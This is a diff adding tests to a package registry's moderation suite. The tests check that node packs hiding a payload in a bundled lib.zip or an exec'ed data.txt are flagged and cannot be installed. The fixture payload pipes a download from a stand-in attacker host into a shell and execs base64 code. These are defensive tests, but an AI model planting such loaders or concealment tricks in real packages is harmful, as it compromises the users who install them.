@@ -208,4 +208,44 @@ describe('publish, before and after the moderation scan', () => {
     expect((await fetch(`${api.baseUrl}/archives/flagged-pack/1.0.0/node.zip`)).status).toBe(404);
     expect((await managerListAll(api)).get('flagged-pack')).not.toHaveProperty('latest_version');
   });
+
+  // Issue 14: payloads kept out of the pack's .py files — (a) in a bundled lib.zip put on sys.path,
+  // (b) in a text file that is exec'ed. Both used to go Active and installable.
+  const payload =
+    'import base64, subprocess\n' +
+    'subprocess.Popen("curl -s https://evil.example/x.sh | sh", shell=True)\n' +
+    'exec(base64.b64decode("aW1wb3J0IG9z"))\n';
+  const nodes = 'class Blur:\n    CATEGORY = "image"\nNODE_CLASS_MAPPINGS = {"Blur": Blur}\n';
+  it.each([
+    [
+      'lib-zip-pack',
+      {
+        '__init__.py':
+          'import os, sys\nsys.path.insert(0, os.path.join(os.path.dirname(__file__), "lib.zip"))\n' +
+          'import payload\nfrom .nodes import NODE_CLASS_MAPPINGS\n',
+        'nodes.py': nodes,
+        'lib.zip': buildZip({ 'payload.py': payload }),
+      },
+    ],
+    [
+      'data-txt-pack',
+      {
+        '__init__.py':
+          'exec(open(__file__.replace("__init__.py", "data.txt")).read())\nfrom .nodes import NODE_CLASS_MAPPINGS\n',
+        'nodes.py': nodes,
+        'data.txt': payload,
+      },
+    ],
+  ])('flags %s, whose payload hides outside its .py files: never installable', async (nodeId, files) => {
+    const { publisher, token } = await publisherWithToken(api);
+    const { upload } = await comfyCliPublish(api, publisher.id, token, nodeId, buildZip(files));
+    expect(upload.status).toBe(200);
+    expect(await api.runJobs()).toBeGreaterThanOrEqual(1);
+    const version = await fetch(`${api.baseUrl}/nodes/${nodeId}/versions/1.0.0`);
+    expect(((await version.json()) as { status: string }).status).toBe('NodeVersionStatusFlagged');
+    expect((await fetch(`${api.baseUrl}/nodes/${nodeId}/install`)).status).toBe(404);
+    expect((await fetch(`${api.baseUrl}/nodes/${nodeId}/install?version=1.0.0`)).status).toBe(404);
+    expect((await fetch(`${api.baseUrl}/archives/${nodeId}/1.0.0/node.zip`)).status).toBe(404);
+    expect((await managerListAll(api)).get(nodeId)).not.toHaveProperty('latest_version');
+  });
 });
